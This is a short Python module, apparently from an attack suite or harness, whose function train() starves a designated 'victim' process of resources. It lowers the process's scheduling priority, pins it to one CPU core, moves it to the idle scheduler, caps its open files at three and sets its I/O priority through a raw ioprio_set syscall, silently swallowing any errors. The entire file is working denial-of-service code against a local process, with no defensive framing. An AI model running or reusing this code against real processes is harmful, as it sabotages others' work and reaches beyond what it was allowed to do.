"""Take time from others: priorities, cores, limits and I/O classes of the user's processes."""

import contextlib
import os
import resource

from attacks import libc, targets


def train(run):
    pid = targets(run)["victim"]
    for attempt in (
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: libc.syscall(251, 1, pid, 3 << 13),  # ioprio_set
    ):
        with contextlib.suppress(OSError):
            attempt()
